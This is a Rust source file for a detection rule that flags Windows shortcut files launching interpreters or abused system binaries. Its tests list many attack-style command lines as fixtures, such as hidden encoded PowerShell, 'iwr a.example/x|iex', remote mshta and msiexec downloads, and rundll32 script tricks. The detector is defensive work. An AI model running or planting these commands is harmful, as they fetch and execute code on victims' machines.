//! A shortcut that gives an interpreter, or a program of Windows that attackers borrow, a command that no office has.

use super::{Check, Heuristic};
use crate::artifact::Tree;
use crate::detect::{Strength, shortcuts};

pub(super) const RULE: Heuristic = Heuristic {
    id: "lnk-runs-interpreter",
    strength: Strength::Strong,
    title_en: "The shortcut runs a command interpreter",
    title_ja: "ショートカットがコマンドを実行します",
    attack: &["T1204.002", "T1059", "T1218"],
    page: include_str!("../../../docs/rules/lnk-runs-interpreter.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for command in shortcuts::commands(tree) {
        if command.sure_sign().is_some() {
            hit(command.artifact, command.evidence());
        }
    }
}

#[cfg(test)]
pub(super) mod tests {
    use super::super::lnk_starts_command;
    use super::*;
    use crate::artifact::{Child, Fact};

    /// How often a rule hits on a shortcut.
    pub(in crate::detect::heuristics) fn hits(
        rule: &Heuristic,
        target: &str,
        arguments: &str,
        icon: &str,
    ) -> usize {
        let fact = Fact::Shortcut {
            target: target.into(),
            arguments: arguments.into(),
            icon: icon.into(),
            is_minimized: false,
        };
        let tree = Tree::new(Child::new("a.lnk", "file", b"x".to_vec()).of_kind("lnk").with(fact));
        let mut count = 0;
        (rule.check)(&tree, &mut |_, _| count += 1);
        count
    }

    #[test]
    fn commands_of_attacks_hit() {
        let padded = format!("{}/c start a.pdf", " ".repeat(200));
        for (target, arguments, icon) in [
            ("C:\\Windows\\System32\\cmd.exe", "/c powershell -w hidden -enc AAAA", ""),
            ("%ComSpec%", "/c start \"\" resources\\run.bat", ""),
            ("C:\\Windows\\System32\\rundll32.exe", "data.dll,Start", ""),
            ("rundll32.exe", "..\\x.dat,#1", ""),
            ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "iwr a.example/x|iex", ""),
            ("powershell.exe", "-c \"$a='x';&('i'+'ex')$a\"", ""),
            ("mshta.exe", "https://a.example/x.hta", ""),
            ("mshta", "vbscript:Close(Execute(\"x\"))", ""),
            ("C:\\Windows\\System32\\wscript.exe", "notes.vbs", ""),
            ("wscript.exe", "//e:jscript a.txt", ""),
            ("regsvr32.exe", "/s x.ocx", ""),
            ("conhost.exe", "--headless cmd /c x", ""),
            ("forfiles.exe", "/p c:\\windows /m a /c \"x\"", ""),
            ("C:\\Windows\\System32\\cmd.exe", "/c findstr \"a.*\" \"x.lnk\" > %TEMP%\\x.vbs", ""),
            ("cmd.exe", "/k \"%AppData%\\x.cmd\"", ""),
            ("cmd.exe", "/c dir", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
            ("cmd.exe", "/c dir", ".\\invoice.pdf"),
            ("cmd.exe", &padded, ""),
            ("C:\\Windows\\System32\\OpenSSH\\ssh.exe", "-o ProxyCommand=\"mshta x\" .", ""),
            ("C:\\Windows\\explorer.exe", "search-ms:query=a&crumb=location:\\\\a.example\\x", ""),
            ("rundll32", "javascript:\"\\..\\mshtml,RunHTMLApplication \"", ""),
            ("C:\\Windows\\System32\\rundll32.exe", "shell32.dll,ShellExec_RunDLL x.exe", ""),
            ("msiexec.exe", "/q /i http://a.example/x.msi", ""),
            ("cmd.exe", "/c C:\\Windows\\System32\\mshta.exe a", ""),
            (
                "cmd.exe",
                "/c for /f %a in ('dir C:\\Windows\\*rshell.exe /s /b') do call %a http://a.example",
                "",
            ),
            ("explorer.exe", "\\\\203.0.113.2\\docs\\a.exe", ""),
            ("SyncAppvPublishingServer.vbs", "\"n;x|y\"", ""),
            ("wscript.exe", "/e:VBScript.Encode a.jpg", ""),
            ("C:\\Program Files\\Microsoft\\Edge\\msedge.exe", "--gpu-launcher=\"cmd /c x\"", ""),
        ] {
            assert_eq!(hits(&RULE, target, arguments, icon), 1, "{target} {arguments}");
        }
    }

    #[test]
    fn everyday_shortcuts_do_not() {
        let system = "C:\\Windows\\System32\\";
        for (target, arguments) in [
            ("cmd.exe", ""),
            ("cmd.exe", "/k \"C:\\Program Files\\Tool\\VsDevCmd.bat\""),
            ("%comspec%", "/E:ON /V:ON /T:0E /K \"C:\\Program Files\\SDK\\Bin\\SetEnv.cmd\""),
            ("powershell.exe", "-NoExit -ImportSystemModules"),
            (
                "powershell.exe",
                "-noe -c \"&{Import-Module \"\"\"C:\\Program Files\\VS\\DevShell.dll\"\"\"; Enter-VsDevShell 1}\"",
            ),
            ("rundll32.exe", "%SystemRoot%\\system32\\OobeFldr.dll,ShowWelcomeCenter LaunchedBy"),
            ("rundll32.exe", "shell32.dll,Control_RunDLL main.cpl @2"),
            ("C:\\Windows\\explorer.exe", "shell:::{52205fd8-5dfb-447d-801a-d0b52f2e83e1}"),
            ("explorer.exe", "\\\\server\\share\\folder"),
            ("explorer.exe", "/select,C:\\data\\a.xlsx"),
            ("msiexec.exe", "/x {90160000-000F-0000-0000-0000000FF1CE}"),
            ("control.exe", "printers"),
            ("hh.exe", "C:\\Program Files\\Tool\\help.chm"),
            ("wscript.exe", "\"C:\\Program Files\\Tool\\start.vbs\""),
            (
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome_proxy.exe",
                "--profile-directory=Default --app-id=abc",
            ),
            ("C:\\Program Files\\Internet Explorer\\iexplore.exe", "https://intra.example/"),
            ("C:\\Program Files\\App\\app.exe", "-mce"),
            ("\\\\server\\share\\report.xlsx", ""),
        ] {
            for target in [target.to_string(), format!("{system}{target}")] {
                let count = hits(&RULE, &target, arguments, "")
                    + hits(&lnk_starts_command::RULE, &target, arguments, "");
                assert_eq!(count, 0, "{target} {arguments}");
            }
        }
    }

    #[test]
    fn commands_of_an_office_are_told_but_do_not_condemn() {
        for (target, arguments) in [
            ("cmd.exe", "/c net use z: \\\\server\\share"),
            ("cmd.exe", "/c robocopy C:\\data D:\\backup /mir"),
            ("AutoHotkey.exe", "a.ahk"),
            ("wscript.exe", "\"D:\\My Files\\x.vbs\""),
            (".\\data\\a.js", ""),
            ("%CD%\\a.bat", ""),
            ("wscript.exe", "\\\\server\\netlogon\\logon.vbs"),
            ("powershell.exe", "-ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1"),
        ] {
            assert_eq!(hits(&RULE, target, arguments, ""), 0, "{arguments}");
            assert_eq!(hits(&lnk_starts_command::RULE, target, arguments, ""), 1, "{arguments}");
        }
    }
}
